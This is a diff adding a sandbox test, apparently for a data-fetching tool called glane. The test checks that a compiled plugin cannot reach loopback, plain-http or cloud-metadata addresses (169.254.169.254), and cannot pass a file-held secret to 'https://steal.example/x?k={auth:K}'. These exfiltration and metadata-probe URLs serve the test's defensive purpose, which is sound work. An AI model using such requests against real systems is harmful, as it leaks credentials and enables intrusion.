@@ -4,6 +4,7 @@
 version 2 (Debian 12's own kernel) and with seccomp alone; a program tries; what a kernel without Landlock means. TAP on standard output."""
 import os
 import re
+import shlex
 import subprocess
 import sys
 import tempfile
@@ -78,6 +79,51 @@ if newest:
         if newest > most:
             escape(f"version-{most}", f"landlock = {most}\n", f"landlock {most}, seccomp, limits")
 escape("seccomp", "sandbox = seccomp\n", "seccomp, limits", READS)
+
+# ---- what a plugin says of itself permits neither local addresses nor http, and gets no secret; nor does the archive give what the network would not
+def declared():
+    other = support.Server({"/x": Answer(b"a,b\n1,2\n")})
+    with other:
+        port = other.url.rpartition(":")[2]
+        hosts = [other.url, f"https://127.0.0.1:{port}", f"http://localhost:{port}", f"https://localhost:{port}", "http://169.254.169.254", "169.254.169.254",
+                 "https://[::1]:9", "http://plain.example", "steal.example"]
+        folder = suite.folder / "declared-plugins"
+        folder.mkdir()
+        flags = ["-fsanitize=address,undefined"] if "asan" in support.OUT.name else []
+        done = subprocess.run([*shlex.split(os.environ.get("CC", "cc")), "-std=c11", "-D_GNU_SOURCE", "-fPIC", "-shared", f"-I{support.TOP}/core/include", *flags,
+                               '-DNAME="declared"', f'-DBASE_URL="{other.url}"', "-DHOSTS=" + ",".join(f'"{h}"' for h in hosts), "-o", folder / "declared.so",
+                               support.TOP / "tests/plugins/escape.c"], capture_output=True, text=True, check=False)
+        suite.true("declared: the plugin is made", done.returncode == 0, done.stderr)
+        (folder / "declared.so").chmod(0o755)
+        secret = suite.folder / "declared.secret"
+        secret.write_text("canary-of-the-declared")
+        secret.chmod(0o600)
+        mine, his = f"{server.url}/good.csv?k={{auth:K}}", f"{server.url}/good.csv"
+        urls = ["{base_url}/x", *(f"{h if '://' in h else 'https://' + h}/x" for h in hosts[:-1]), "https://steal.example/x?k={auth:K}", mine, his]
+        auth = f"auth = K=file:{secret}\nretries = 0\n"
+        text = (f"[source owner]\nplugin = csv\nbase_url = {server.url}\nfiles = good.csv?k={{auth:K}}\n{auth}{GOOD}"
+                f"[source declared]\nplugin = declared\nfetch = {' '.join(urls)}\n{auth}"
+                f"[source beside]\nplugin = declared\nbase_url = {server.url}\nfetch = {mine} {his}\n{auth}")
+        site = suite.site("declared", text)
+        conf = site.conf.read_text()
+        site.conf.write_text(conf.replace("plugin_path = ", f"plugin_path = {folder} ", 1))
+        asked = len(server.log)
+        run = site.run("owner", "declared")
+        made = lines(run, "declared")
+        through = [n for n, t in made.items() if t]
+        suite.same("declared: nothing that only the plugin names is asked, but https elsewhere", (through, other.log, len(server.log) - asked), ([], [], 1))
+        suite.true("declared: each is a security event", run.sources["declared"]["security_events"] == len(urls) - 1, run.sources["declared"])
+        suite.true("declared: what to write is said", "write `hosts = https://steal.example:443`" in run.err, run)
+        suite.same("declared: the owner of the secret has its data", run.verdicts["owner"], "ok")
+        run = site.run("declared", "beside", "--offline")
+        through = {(s, n) for s in ("declared", "beside") for n, t in lines(run, s).items() if t}
+        suite.same("declared: nor is it given another source's answer offline", (through, len(lines(run, "beside"))), (set(), len(lines(run, "declared")) - len(urls) + 2))
+        suite.same("declared: which its owner is", site.run("owner", "--offline").verdicts, {"owner": "unchanged"})
+        code, out, err = site.glane("check", "--conf")
+        suite.true("declared: check says that auth wants a host", code == 1 and "[source declared] has auth" in out + err and "[source beside] has" not in out + err, (code, out, err))
+
+
+declared()
 
 # ---- what the unit lets through must hold what the sandbox is made of, or every run under systemd ends with SIGSYS
 unit = (support.TOP / "conf/systemd/glane.service").read_text()
